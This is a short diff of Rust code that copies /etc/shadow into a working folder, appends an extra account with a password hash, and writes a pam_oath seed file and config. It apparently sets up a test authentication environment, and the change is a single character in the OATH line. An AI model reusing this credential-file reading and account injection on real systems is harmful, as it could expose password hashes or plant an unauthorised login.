@@ -258,7 +258,7 @@ impl Hidden {
         };
         let shadow = std::fs::read_to_string("/etc/shadow").unwrap();
         place.write("shadow", &format!("{shadow}{USER}:{}:20000:0:99999:7:::\n", hash.trim()));
-        place.write("oath", &format!("HOTP/T30/6 {USER} - {SEED_HEX}\n"));
+        place.write("oath", &format!("HOTP/T30/6 {USER} + {SEED_HEX}\n"));
         std::fs::set_permissions(place.path("oath"), Permissions::from_mode(0o600)).unwrap();
         place.write("said", "");
         let oath = format!("pam_oath.so usersfile={folder}/oath window=3 digits=6");
